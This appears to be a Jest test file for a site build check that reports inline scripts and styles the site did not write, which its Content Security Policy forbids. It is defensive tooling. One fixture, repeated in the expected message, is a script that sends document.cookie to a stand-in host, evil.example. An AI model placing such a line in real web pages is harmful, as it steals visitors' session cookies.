import { formatStrayInlineCode, strayInlineCode, writtenTexts, type WrittenInlineCode } from './inlineCode';

const written: WrittenInlineCode[] = [
  { kind: 'scripts', text: 'setColourMode()', writer: 'src/lib/colorMode.ts noFlashScript' },
  { kind: 'styleAttributes', text: 'outline:none', writer: '@gatsbyjs/reach-router FocusHandlerImpl' },
];
const page = (route: string, inline: Partial<Record<'scripts' | 'styles' | 'styleAttributes', string[]>>) => ({
  route,
  inline: { scripts: [], styles: [], styleAttributes: [], ...inline },
});

describe('strayInlineCode', () => {
  it('finds nothing in pages holding only what the site writes', () => {
    const pages = [
      page('/', { scripts: ['setColourMode()'], styleAttributes: ['outline:none'] }),
      page('/wants', { scripts: ['setColourMode()'] }),
    ];
    expect(strayInlineCode(pages, writtenTexts(written))).toEqual([]);
  });

  it('finds each other piece once, with every page that holds it', () => {
    const pages = [
      page('/', { scripts: ['setColourMode()', 'steal()'] }),
      page('/wants', { scripts: ['steal()', 'steal()'], styles: ['body{display:none}'] }),
      // The same text is allowed as a script, not as a style attribute.
      page('/resources', { styleAttributes: ['setColourMode()'] }),
    ];
    expect(strayInlineCode(pages, writtenTexts(written))).toEqual([
      { kind: 'scripts', text: 'steal()', routes: ['/', '/wants'] },
      { kind: 'styles', text: 'body{display:none}', routes: ['/wants'] },
      { kind: 'styleAttributes', text: 'setColourMode()', routes: ['/resources'] },
    ]);
  });
});

it('names each stray piece by its first characters and its pages, then says content may not carry code', () => {
  const message = formatStrayInlineCode([
    {
      kind: 'scripts',
      text: "\n  fetch('https://evil.example/collect?c=' + document.cookie);\n  alert('and a very long tail');",
      routes: ['/wants'],
    },
    { kind: 'styleAttributes', text: 'color:red', routes: ['/g', '/f', '/e', '/d', '/c', '/b', '/a'] },
  ]);
  expect(message).toMatchInlineSnapshot(`
"Inline code the site did not write, which the Content Security Policy does not allow:
- Inline script "fetch('https://evil.example/collect?c=' + document.cookie);…" on /wants
- Style attribute "color:red" on /a, /b, /c, /d, /e and 2 more pages
Content may not carry scripts or styles: remove the <script>, <style> or style="…" from the doc or navigation file of those pages (on every page: the announcement bar, an html navbar item or the footer). The site's own inline code is listed, with the code that writes it, in src/node/hosting/siteInlineCode.ts."
`);
});
